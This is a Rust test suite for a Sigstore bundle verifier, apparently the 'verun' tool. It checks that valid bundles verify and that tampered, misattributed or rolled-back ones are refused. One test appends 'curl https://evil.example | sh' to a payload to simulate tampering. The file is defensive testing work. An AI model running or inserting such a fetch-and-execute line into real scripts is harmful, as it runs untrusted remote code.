//! Sigstore bundles from a private instance built at test run time
//! (`tests/common/sigstore_instance.rs`): the happy paths verify, and every way a bundle
//! can be wrong — expired or wrong CA, bad SCT, broken inclusion proof, checkpoint by an
//! unknown key, signing time outside the certificate, wrong identity or issuer, DSSE
//! subject mismatch, two DSSE signatures, a tampered payload, a missing proof, an
//! untrusted or misdirected timestamp — is refused with exit 77 and one `verun: error:`
//! line, with nothing run. Also `verify sha256:HEX`, a store identity over loopback HTTPS
//! (the `<URL>.sigstore.json` sibling) and rollback of the Sigstore signing time.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::sigstore_instance::*;
use common::*;

/// A sandbox, a private Sigstore instance, and an executable marker script as payload.
struct Fixture {
    env: TestEnv,
    inst: Instance,
    payload: Vec<u8>,
    file: PathBuf,
    marker: PathBuf,
}

impl Fixture {
    fn new() -> Fixture {
        let env = TestEnv::new();
        let inst = Instance::new();
        let (payload, marker) = marker_script(&env, "tool");
        let file = env.write("tool.sh", &payload);
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
        Fixture {
            env,
            inst,
            payload,
            file,
            marker,
        }
    }

    /// Writes the trusted root `work/trusted_root.json`.
    fn root(&self, spec: &RootSpec) -> PathBuf {
        self.inst
            .write_trusted_root(&self.env.path("trusted_root.json"), spec)
    }

    /// Writes a bundle for the payload at `work/tool.sh.sigstore.json`.
    fn bundle(&self, spec: &BundleSpec) -> PathBuf {
        self.inst
            .write_bundle(&self.env.path("tool.sh.sigstore.json"), &self.payload, spec)
    }

    /// `verun verify TARGET --bundle B --cert-identity ID --cert-oidc-issuer ISS
    /// --trusted-root ROOT`.
    fn verify_as(
        &self,
        target: &str,
        bundle: &Path,
        root: &Path,
        identity: &str,
        issuer: &str,
    ) -> Output {
        self.env.verun([
            "verify",
            target,
            "--bundle",
            bundle.to_str().unwrap(),
            "--cert-identity",
            identity,
            "--cert-oidc-issuer",
            issuer,
            "--trusted-root",
            root.to_str().unwrap(),
        ])
    }

    /// [`verify_as`](Self::verify_as) the payload file, as the bundle's own signer.
    fn verify(&self, bundle: &Path, root: &Path, spec: &BundleSpec) -> Output {
        self.verify_as(
            self.file.to_str().unwrap(),
            bundle,
            root,
            spec.identity.as_str(),
            &spec.issuer,
        )
    }

    /// The bundle made from `spec`, verified against a root made from `root`.
    fn check(&self, root: &RootSpec, spec: &BundleSpec) -> Output {
        let root = self.root(root);
        let bundle = self.bundle(spec);
        self.verify(&bundle, &root, spec)
    }
}

/// Exit 0, nothing run (`verify` never runs anything).
#[track_caller]
fn assert_verified(f: &Fixture, out: &Output) {
    assert_exit(out, 0);
    assert_not_ran(&f.marker);
}

/// How verun says a verified bundle is by another signer than the one asked for.
const OTHER_SIGNER: &[&str] = &["mismatch", "not by", "not trusted", "does not match"];

/// Exit 77, exactly one `verun: error:` line and a hint, nothing run; and the error line
/// names the fault (one of `because`, case-insensitive), so a bundle refused for some
/// other, accidental reason does not pass for the case under test.
#[track_caller]
fn assert_refused(f: &Fixture, out: &Output, because: &[&str]) {
    assert_exit(out, 77);
    let err = stderr(out);
    let errors: Vec<&str> = err
        .lines()
        .filter(|l| l.starts_with("verun: error:"))
        .collect();
    assert_eq!(errors.len(), 1, "want one `verun: error:` line:\n{err}");
    assert!(
        err.lines().any(|l| l.starts_with("verun: hint:")),
        "no `verun: hint:` line:\n{err}"
    );
    let line = errors[0].to_lowercase();
    assert!(
        because.iter().any(|b| line.contains(&b.to_lowercase())),
        "the error names none of {because:?}:\n{err}"
    );
    assert_not_ran(&f.marker);
}

fn needs_openssl() -> bool {
    if openssl_available() {
        return true;
    }
    assert!(
        !in_ci(),
        "openssl is required in CI (RFC 3161 tokens come from `openssl ts`)"
    );
    eprintln!("SKIPPED: openssl not found (the TSA's tokens come from `openssl ts -reply`)");
    false
}

// --- the fixture is right -----------------------------------------------------------------

#[test]
fn happy_path_message_signature_bundle_verifies() {
    let f = Fixture::new();
    let out = f.check(&RootSpec::public_good(), &BundleSpec::new());
    assert_verified(&f, &out);
}

#[test]
fn happy_path_dsse_attestation_from_github_actions_verifies() {
    let f = Fixture::new();
    let spec = BundleSpec::new().github("verun-test/tool").dsse();
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_verified(&f, &out);
}

#[test]
fn happy_path_bundle_with_a_trusted_timestamp_verifies() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let mut root = RootSpec::public_good();
    root.tsas = true;
    let mut spec = BundleSpec::new();
    spec.tsa = TsaToken::Trusted;
    // The timestamp is taken now: the certificate must be valid now too.
    spec.cert_not_after = now() + 300;
    let out = f.check(&root, &spec);
    assert_verified(&f, &out);
}

#[test]
fn fixture_bundles_have_the_shape_of_real_cosign_and_dsse_bundles() {
    let vectors = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/vectors/sigstore/cases");
    if !vectors.is_dir() {
        eprintln!("SKIPPED: ../shared/vectors is absent");
        return;
    }
    let inst = Instance::new();
    let keys = |v: &serde_json::Value| -> Vec<String> {
        let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
        k.sort();
        k
    };
    for (real, spec) in [
        (
            "cosign-v3-blob/cosign-v3-blob.sigstore.json",
            BundleSpec::new(),
        ),
        (
            "conda-dsse/conda-attestation.sigstore.json",
            BundleSpec::new().github("verun-test/tool").dsse(),
        ),
        (
            "staging-rekor-v2/staging-rekor-v2.txt.sigstore.json",
            BundleSpec::new().rekor_v2(),
        ),
    ] {
        let real: serde_json::Value =
            serde_json::from_slice(&fs::read(vectors.join(real)).unwrap()).unwrap();
        let mut spec = spec;
        spec.tsa = real["verificationMaterial"]["timestampVerificationData"]
            .get("rfc3161Timestamps")
            .map_or(TsaToken::None, |_| TsaToken::Trusted);
        if spec.tsa == TsaToken::Trusted && !needs_openssl() {
            continue;
        }
        let ours: serde_json::Value =
            serde_json::from_str(&inst.bundle(b"payload", &spec)).unwrap();
        assert_eq!(ours["mediaType"], real["mediaType"]);
        for path in [
            "",
            "/verificationMaterial",
            "/verificationMaterial/tlogEntries/0",
            "/verificationMaterial/tlogEntries/0/inclusionProof",
            "/verificationMaterial/tlogEntries/0/kindVersion",
            "/verificationMaterial/timestampVerificationData",
        ] {
            assert_eq!(
                keys(ours.pointer(path).unwrap()),
                keys(real.pointer(path).unwrap()),
                "keys at {path:?}"
            );
        }
        let body = |v: &serde_json::Value| -> serde_json::Value {
            use base64::Engine as _;
            let b64 = v["verificationMaterial"]["tlogEntries"][0]["canonicalizedBody"]
                .as_str()
                .unwrap();
            let raw = base64::engine::general_purpose::STANDARD
                .decode(b64)
                .unwrap();
            serde_json::from_slice(&raw).unwrap()
        };
        let (ours_body, real_body) = (body(&ours), body(&real));
        assert_eq!(ours_body["kind"], real_body["kind"]);
        assert_eq!(ours_body["apiVersion"], real_body["apiVersion"]);
        assert_eq!(keys(&ours_body["spec"]), keys(&real_body["spec"]));
        let checkpoint = ours
            .pointer("/verificationMaterial/tlogEntries/0/inclusionProof/checkpoint/envelope")
            .unwrap()
            .as_str()
            .unwrap();
        assert!(checkpoint.contains("\n\n\u{2014} "), "{checkpoint:?}");
    }
}

/// RFC 9162 §2.1.3.2: the root an inclusion proof leads to (a second, iterative algorithm
/// for the fixture's recursive RFC 6962 PATH).
fn root_from_proof(index: u64, size: u64, leaf: [u8; 32], proof: &[[u8; 32]]) -> [u8; 32] {
    use sha2::Digest as _;
    let node = |l: &[u8; 32], r: &[u8; 32]| -> [u8; 32] {
        let mut h = sha2::Sha256::new();
        h.update([1u8]);
        h.update(l);
        h.update(r);
        h.finalize().into()
    };
    let (mut fn_, mut sn, mut r) = (index, size - 1, leaf);
    for p in proof {
        assert!(sn != 0, "proof too long");
        if fn_ & 1 == 1 || fn_ == sn {
            r = node(p, &r);
            if fn_ & 1 == 0 {
                while fn_ & 1 == 0 && fn_ != 0 {
                    fn_ >>= 1;
                    sn >>= 1;
                }
            }
        } else {
            r = node(&r, p);
        }
        fn_ >>= 1;
        sn >>= 1;
    }
    assert_eq!(sn, 0, "proof too short");
    r
}

#[test]
fn fixture_inclusion_proofs_check_out_by_the_rfc_9162_algorithm() {
    for size in 1..=17usize {
        let leaves: Vec<[u8; 32]> = (0..size)
            .map(|i| leaf_hash(format!("leaf {i}").as_bytes()))
            .collect();
        let root = merkle_root(&leaves);
        for (i, leaf) in leaves.iter().enumerate() {
            let path = inclusion_path(i, &leaves);
            assert_eq!(
                root_from_proof(i as u64, size as u64, *leaf, &path),
                root,
                "leaf {i} of {size}"
            );
        }
    }
}

#[test]
fn fixture_timestamps_verify_with_openssl_ts() {
    if !needs_openssl() {
        return;
    }
    let inst = Instance::new();
    let signature = b"a signature";
    let reply = inst.dir().join("check.tsr");
    fs::write(&reply, inst.trusted_timestamp(signature)).unwrap();
    let (root, leaf) = inst.tsa_pem_files();
    let verify = |data: &[u8]| {
        let digest = sha256_hex(data);
        std::process::Command::new("openssl")
            .args(["ts", "-verify", "-digest", &digest, "-in"])
            .arg(&reply)
            .arg("-CAfile")
            .arg(&root)
            .arg("-untrusted")
            .arg(&leaf)
            .output()
            .unwrap()
    };
    let ok = verify(signature);
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    assert!(!verify(b"another signature").status.success());
}

// --- certificate authority ----------------------------------------------------------------

#[test]
fn ca_whose_validity_ended_before_the_signing_time_is_refused() {
    let f = Fixture::new();
    let mut root = RootSpec::public_good();
    root.ca_valid_until = Some(now() - 86_400);
    let out = f.check(&root, &BundleSpec::new());
    assert_refused(&f, &out, &["certificate authority"]);
}

#[test]
fn ca_whose_validity_began_after_the_signing_time_is_refused() {
    let f = Fixture::new();
    let mut root = RootSpec::public_good();
    root.ca_valid_from = Some(now() - 60); // signed two minutes ago
    let out = f.check(&root, &BundleSpec::new());
    assert_refused(&f, &out, &["certificate authority"]);
}

#[test]
fn certificate_long_expired_now_but_valid_at_the_signing_time_verifies() {
    let f = Fixture::new();
    // Signed a year ago with a ten-minute certificate: judged at the signing time, not now.
    let out = f.check(
        &RootSpec::public_good(),
        &BundleSpec::signed_at(now() - 365 * 86_400),
    );
    assert_verified(&f, &out);
}

#[test]
fn leaf_issued_by_a_ca_not_in_the_root_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.rogue_ca = true;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["chain", "issuer"]);
}

// --- certificate transparency -------------------------------------------------------------

#[test]
fn sct_with_a_flipped_signature_byte_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.sct = SctFault::FlippedSignature;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
}

#[test]
fn sct_from_a_log_not_in_the_root_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.sct = SctFault::UnknownLog;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
}

#[test]
fn certificate_without_sct_is_refused_when_the_root_has_ct_logs() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.sct = SctFault::Absent;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
}

// --- transparency log ---------------------------------------------------------------------

#[test]
fn inclusion_proof_with_a_flipped_hash_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.proof = ProofFault::FlippedHash;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["inclusion proof"]);
}

#[test]
fn checkpoint_signed_by_a_key_not_in_the_root_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.checkpoint_by_rogue_key = true;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["checkpoint"]);
}

#[test]
fn bundle_without_log_entry_is_refused_when_the_root_has_tlogs() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let mut root = RootSpec::public_good();
    root.tsas = true;
    // A valid SCT and a valid timestamp, but nothing logged in Rekor.
    let mut spec = BundleSpec::new();
    spec.tlog = false;
    spec.tsa = TsaToken::Trusted;
    spec.cert_not_after = now() + 300;
    let out = f.check(&root, &spec);
    assert_refused(
        &f,
        &out,
        &["inclusion proof", "tlog", "log entry", "transparency"],
    );
}

#[test]
fn bundle_without_any_signed_time_is_refused() {
    let f = Fixture::new();
    // An inclusion proof but no SET and no timestamp: nothing vouches for when it was signed.
    let mut spec = BundleSpec::new();
    spec.set = false;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["timestamp", "time"]);
}

#[test]
fn v01_bundle_with_a_signed_entry_timestamp_and_no_proof_verifies() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.version = BundleVersion::V01;
    spec.proof = ProofFault::Absent;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_verified(&f, &out);
}

#[test]
fn every_bundle_media_type_spelling_is_accepted() {
    let f = Fixture::new();
    let root = f.root(&RootSpec::public_good());
    for (version, media_type) in [
        (BundleVersion::V01, MEDIA_TYPE_V01),
        (BundleVersion::V02, MEDIA_TYPE_V02),
        (BundleVersion::V03, MEDIA_TYPE_V03),
        (BundleVersion::V03, MEDIA_TYPE_V03_ALT),
    ] {
        let mut spec = BundleSpec::new();
        spec.version = version;
        spec.media_type = Some(media_type);
        let bundle = f.bundle(&spec);
        let out = f.verify(&bundle, &root, &spec);
        assert_exit(&out, 0);
    }
}

#[test]
fn unknown_bundle_media_type_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.media_type = Some("application/vnd.dev.sigstore.bundle.v0.9+json");
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["media type"]);
}

#[test]
fn v03_bundle_without_inclusion_proof_is_refused_when_the_root_has_tlogs() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.proof = ProofFault::Absent;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["inclusion proof"]);
}

/// The public-good shape with the TSA that Rekor v2 entries need for their signed time.
fn root_with_tsa() -> RootSpec {
    let mut root = RootSpec::public_good();
    root.tsas = true;
    root
}

#[test]
fn rekor_v2_entry_with_a_trusted_timestamp_verifies() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let out = f.check(&root_with_tsa(), &BundleSpec::new().rekor_v2());
    assert_verified(&f, &out);
}

#[test]
fn rekor_v2_entry_without_timestamp_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new().rekor_v2();
    spec.tsa = TsaToken::None;
    let out = f.check(&root_with_tsa(), &spec);
    assert_refused(&f, &out, &["timestamp"]);
}

#[test]
fn rekor_v2_checkpoint_signed_by_a_key_not_in_the_root_is_refused() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let mut spec = BundleSpec::new().rekor_v2();
    spec.checkpoint_by_rogue_key = true;
    let out = f.check(&root_with_tsa(), &spec);
    assert_refused(&f, &out, &["checkpoint"]);
}

#[test]
fn rekor_v2_inclusion_proof_with_a_flipped_hash_is_refused() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let mut spec = BundleSpec::new().rekor_v2();
    spec.proof = ProofFault::FlippedHash;
    let out = f.check(&root_with_tsa(), &spec);
    assert_refused(&f, &out, &["inclusion proof"]);
}

#[test]
fn integrated_time_after_the_certificate_expired_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    // Logged now, with a certificate that expired 50 minutes ago.
    spec.cert_not_before = now() - 3600;
    spec.cert_not_after = now() - 3000;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["expired", "not_after", "validity"]);
}

/// Rewrites the bundle JSON at `path` with `edit`.
fn edit_bundle(path: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let mut bundle: serde_json::Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    edit(&mut bundle);
    fs::write(path, serde_json::to_vec_pretty(&bundle).unwrap()).unwrap();
}

#[test]
fn integrated_time_not_covered_by_the_signed_entry_timestamp_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    edit_bundle(&bundle, |b| {
        let entry = &mut b["verificationMaterial"]["tlogEntries"][0];
        entry["integratedTime"] = serde_json::json!((spec.signed_at + 60).to_string());
    });
    let out = f.verify(&bundle, &root, &spec);
    assert_refused(&f, &out, &["inclusion promise", "signed entry timestamp"]);
}

#[test]
fn log_entry_of_another_signature_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    // A genuine, fully valid entry for another payload by the same identity.
    let other: serde_json::Value =
        serde_json::from_str(&f.inst.bundle(b"another payload", &spec)).unwrap();
    edit_bundle(&bundle, |b| {
        b["verificationMaterial"]["tlogEntries"] =
            other["verificationMaterial"]["tlogEntries"].clone();
    });
    let out = f.verify(&bundle, &root, &spec);
    assert_refused(&f, &out, &["entry", "mismatch"]);
}

// --- identity -----------------------------------------------------------------------------

#[test]
fn issuer_in_the_legacy_extension_only_is_matched() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new();
    spec.legacy_issuer_only = true;
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    assert_verified(&f, &f.verify(&bundle, &root, &spec));
    let out = f.verify_as(
        f.file.to_str().unwrap(),
        &bundle,
        &root,
        spec.identity.as_str(),
        "https://accounts.google.com",
    );
    assert_refused(&f, &out, OTHER_SIGNER);
}

/// `verun verify FILE --bundle B --github-repo REPO --trusted-root ROOT`.
fn verify_github(f: &Fixture, bundle: &Path, root: &Path, repo: &str) -> Output {
    f.env.verun([
        "verify",
        f.file.to_str().unwrap(),
        "--bundle",
        bundle.to_str().unwrap(),
        "--github-repo",
        repo,
        "--trusted-root",
        root.to_str().unwrap(),
    ])
}

#[test]
fn github_repo_accepts_a_bundle_built_in_that_repository() {
    let f = Fixture::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&BundleSpec::new().github("verun-test/tool").dsse());
    assert_verified(&f, &verify_github(&f, &bundle, &root, "verun-test/tool"));
    let out = verify_github(&f, &bundle, &root, "verun-test/other");
    assert_refused(&f, &out, OTHER_SIGNER);
}

#[test]
fn github_repo_is_the_calling_repository_not_the_reusable_workflows() {
    let f = Fixture::new();
    let root = f.root(&RootSpec::public_good());
    let spec = BundleSpec::new()
        .github_reusable("verun-test/app", "shared-org/workflows")
        .dsse();
    let bundle = f.bundle(&spec);
    // Built in verun-test/app by a reusable workflow of shared-org/workflows.
    assert_verified(&f, &verify_github(&f, &bundle, &root, "verun-test/app"));
    // Every caller of that workflow would pass as shared-org/workflows otherwise.
    let out = verify_github(&f, &bundle, &root, "shared-org/workflows");
    assert_refused(&f, &out, OTHER_SIGNER);
}

#[test]
fn github_repo_refuses_a_certificate_from_another_issuer() {
    let f = Fixture::new();
    let root = f.root(&RootSpec::public_good());
    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
    spec.issuer = "https://token.actions.example.test".into();
    let bundle = f.bundle(&spec);
    let out = verify_github(&f, &bundle, &root, "verun-test/tool");
    assert_refused(&f, &out, OTHER_SIGNER);
}

#[test]
fn identity_regexp_must_match_the_whole_san() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let verify = |re: &str| {
        f.env.verun([
            "verify",
            f.file.to_str().unwrap(),
            "--bundle",
            bundle.to_str().unwrap(),
            "--cert-identity-regexp",
            re,
            "--cert-oidc-issuer",
            &spec.issuer,
            "--trusted-root",
            root.to_str().unwrap(),
        ])
    };
    assert_verified(&f, &verify(r"releaser@verun\.test"));
    assert_verified(&f, &verify(r"[a-z]+@verun\.test"));
    // A match of part of the SAN is no match.
    assert_refused(&f, &verify(r"releaser@verun"), OTHER_SIGNER);
    assert_refused(&f, &verify(r"verun\.test"), OTHER_SIGNER);
}

#[test]
fn wrong_identity_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let out = f.verify_as(
        f.file.to_str().unwrap(),
        &bundle,
        &root,
        "someone-else@verun.test",
        &spec.issuer,
    );
    assert_refused(&f, &out, OTHER_SIGNER);
}

#[test]
fn wrong_issuer_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let out = f.verify_as(
        f.file.to_str().unwrap(),
        &bundle,
        &root,
        spec.identity.as_str(),
        "https://accounts.google.com",
    );
    assert_refused(&f, &out, OTHER_SIGNER);
}

// --- what is signed -----------------------------------------------------------------------

#[test]
fn dsse_statement_naming_another_digest_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
    spec.dsse.as_mut().unwrap().subject_sha256 = Some(sha256_hex(b"some other artifact"));
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["subject"]);
}

#[test]
fn dsse_statement_naming_only_the_sha512_verifies_also_in_digest_form() {
    use sha2::Digest as _;
    let f = Fixture::new();
    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
    spec.dsse.as_mut().unwrap().sha512_only = true;
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    assert_verified(&f, &f.verify(&bundle, &root, &spec));
    let sha512: String = sha2::Sha512::digest(&f.payload)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let (id, iss) = (spec.identity.as_str(), spec.issuer.as_str());
    let out = f.verify_as(&format!("sha512:{sha512}"), &bundle, &root, id, iss);
    assert_verified(&f, &out);
    let other: String = sha2::Sha512::digest(b"other")
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let out = f.verify_as(&format!("sha512:{other}"), &bundle, &root, id, iss);
    assert_refused(&f, &out, &["subject", "mismatch"]);
}

#[test]
fn dsse_digest_form_sha256_hex_verifies() {
    let f = Fixture::new();
    let spec = BundleSpec::new().github("verun-test/tool").dsse();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let digest = format!("sha256:{}", sha256_hex(&f.payload));
    let out = f.verify_as(
        &digest,
        &bundle,
        &root,
        spec.identity.as_str(),
        &spec.issuer,
    );
    assert_verified(&f, &out);
}

#[test]
fn dsse_envelope_with_two_signatures_is_refused() {
    let f = Fixture::new();
    let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
    spec.dsse.as_mut().unwrap().two_signatures = true;
    let out = f.check(&RootSpec::public_good(), &spec);
    assert_refused(&f, &out, &["one signature", "two signatures", "signatures"]);
}

#[test]
fn tampered_payload_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let mut tampered = f.payload.clone();
    tampered.extend_from_slice(b"curl https://evil.example | sh\n");
    fs::write(&f.file, &tampered).unwrap();
    let out = f.verify(&bundle, &root, &spec);
    assert_refused(&f, &out, &["digest", "mismatch"]);
}

#[test]
fn tampered_payload_is_refused_for_a_dsse_attestation() {
    let f = Fixture::new();
    let spec = BundleSpec::new().github("verun-test/tool").dsse();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let mut tampered = f.payload.clone();
    tampered[0] ^= 0x01;
    fs::write(&f.file, &tampered).unwrap();
    let out = f.verify(&bundle, &root, &spec);
    assert_refused(&f, &out, &["subject", "mismatch"]);
}

#[test]
fn digest_form_sha256_hex_verifies_and_another_digest_is_refused() {
    let f = Fixture::new();
    let spec = BundleSpec::new();
    let root = f.root(&RootSpec::public_good());
    let bundle = f.bundle(&spec);
    let digest = format!("sha256:{}", sha256_hex(&f.payload));
    let out = f.verify_as(
        &digest,
        &bundle,
        &root,
        spec.identity.as_str(),
        &spec.issuer,
    );
    assert_verified(&f, &out);

    let other = format!("sha256:{}", sha256_hex(b"another payload"));
    let out = f.verify_as(&other, &bundle, &root, spec.identity.as_str(), &spec.issuer);
    assert_refused(&f, &out, &["digest", "mismatch"]);
}

// --- timestamp authority only (GitHub's root for private repositories) --------------------

#[test]
fn tsa_only_root_accepts_a_bundle_with_a_valid_timestamp() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let spec = BundleSpec::new()
        .github("verun-test/private-tool")
        .dsse()
        .tsa_only(TsaToken::Trusted);
    let out = f.check(&RootSpec::tsa_only(), &spec);
    assert_verified(&f, &out);
}

#[test]
fn tsa_only_root_refuses_a_timestamp_from_an_untrusted_tsa() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let spec = BundleSpec::new()
        .github("verun-test/private-tool")
        .dsse()
        .tsa_only(TsaToken::Untrusted);
    let out = f.check(&RootSpec::tsa_only(), &spec);
    assert_refused(&f, &out, &["timestamp"]);
}

#[test]
fn tsa_only_root_refuses_a_timestamp_over_another_signature() {
    if !needs_openssl() {
        return;
    }
    let f = Fixture::new();
    let spec = BundleSpec::new()
        .github("verun-test/private-tool")
        .dsse()
        .tsa_only(TsaToken::OverOtherSignature);
    let out = f.check(&RootSpec::tsa_only(), &spec);
    assert_refused(&f, &out, &["timestamp"]);
}

#[test]
fn tsa_only_root_refuses_a_bundle_without_timestamp() {
    let f = Fixture::new();
    let spec = BundleSpec::new()
        .github("verun-test/private-tool")
        .dsse()
        .tsa_only(TsaToken::None);
    let out = f.check(&RootSpec::tsa_only(), &spec);
    assert_refused(&f, &out, &["timestamp"]);
}

// --- over HTTPS, with a store identity ----------------------------------------------------

/// A sandbox and an HTTPS server with a store identity for it; the trusted root written.
struct Site {
    f: Fixture,
    server: TestServer,
    cacert: Vec<String>,
    root: PathBuf,
    url: String,
}

impl Site {
    fn new(spec: &BundleSpec) -> Site {
        let f = Fixture::new();
        let server = TestServer::https();
        let cacert = args(&["--cacert", server.ca_pem_path().to_str().unwrap()]);
        let root = f.root(&RootSpec::public_good());
        let scope = format!("{}/", server.base_url_ip());
        let out = f.env.verun([
            "key",
            "add",
            "releaser",
            "--cert-identity",
            spec.identity.as_str(),
            "--cert-oidc-issuer",
            &spec.issuer,
            "--scope",
            &scope,
        ]);
        assert_exit(&out, 0);
        server.route("/dl/tool.sh", Reply::bytes(&f.payload));
        let url = format!("{}/dl/tool.sh", server.base_url_ip());
        Site {
            f,
            server,
            cacert,
            root,
            url,
        }
    }

    /// Serves a bundle made from `spec` at `<URL>.sigstore.json`.
    fn serve_bundle(&self, spec: &BundleSpec) {
        let bundle = self.f.inst.bundle(&self.f.payload, spec);
        self.server
            .route("/dl/tool.sh.sigstore.json", Reply::bytes(bundle));
    }

    fn verun(&self, verb: &str, extra: &[&str]) -> Output {
        let mut argv = vec![verb.to_string(), self.url.clone()];
        argv.extend(args(&["--trusted-root", self.root.to_str().unwrap()]));
        argv.extend(self.cacert.iter().cloned());
        argv.extend(args(extra));
        self.f.env.verun(argv)
    }
}

#[test]
fn fetch_and_run_over_https_verify_the_sibling_bundle_under_a_store_identity() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    site.serve_bundle(&spec);

    let dest = site.f.env.path("out/tool.sh");
    fs::create_dir_all(dest.parent().unwrap()).unwrap();
    let out = site.verun("fetch", &["-o", dest.to_str().unwrap()]);
    assert_exit(&out, 0);
    assert_eq!(fs::read(&dest).unwrap(), site.f.payload);
    assert!(site.server.hits("/dl/tool.sh.sigstore.json") >= 1);

    let out = site.verun("run", &[]);
    assert_exit(&out, 0);
    assert_ran(&site.f.marker);
}

#[test]
fn fetch_refuses_a_sibling_bundle_by_another_identity_than_the_store_holds() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    let mut other = BundleSpec::new();
    other.identity = San::Email("mallory@verun.test".into());
    site.serve_bundle(&other);

    let dest = site.f.env.path("out/tool.sh");
    fs::create_dir_all(dest.parent().unwrap()).unwrap();
    let out = site.verun("fetch", &["-o", dest.to_str().unwrap()]);
    assert_refused(&site.f, &out, OTHER_SIGNER);
    assert_no_file(&dest);
}

#[test]
fn older_sigstore_signing_time_after_a_newer_one_is_refused_unless_allow_downgrade() {
    let t2 = now() - 120;
    let t1 = t2 - 3600;
    let newer = BundleSpec::signed_at(t2);
    let older = BundleSpec::signed_at(t1);
    let site = Site::new(&newer);
    let dest = site.f.env.path("out/tool.sh");
    fs::create_dir_all(dest.parent().unwrap()).unwrap();
    let dest_arg = dest.to_str().unwrap().to_string();

    site.serve_bundle(&newer);
    let out = site.verun("fetch", &["-o", &dest_arg]);
    assert_exit(&out, 0);
    fs::remove_file(&dest).unwrap();

    site.serve_bundle(&older);
    let out = site.verun("fetch", &["-o", &dest_arg]);
    assert_refused(&site.f, &out, &["rollback", "older"]);
    assert_no_file(&dest);

    let out = site.verun("fetch", &["-o", &dest_arg, "--allow-downgrade"]);
    assert_exit(&out, 0);
    assert_eq!(fs::read(&dest).unwrap(), site.f.payload);
}

#[test]
fn lockfile_names_the_sigstore_signer() {
    let spec = BundleSpec::new();
    let site = Site::new(&spec);
    site.serve_bundle(&spec);
    let lock = site.f.env.path("verun.lock");
    let out = site.verun("run", &["--lock", lock.to_str().unwrap()]);
    assert_exit(&out, 0);
    assert_ran(&site.f.marker);
    let text = fs::read_to_string(&lock).unwrap();
    let signer = format!(
        "signer = \"sigstore:{}|{}\"",
        spec.issuer,
        spec.identity.as_str()
    );
    assert!(
        text.contains(&signer),
        "no `{signer}` in the lockfile:\n{text}"
    );
}

#[test]
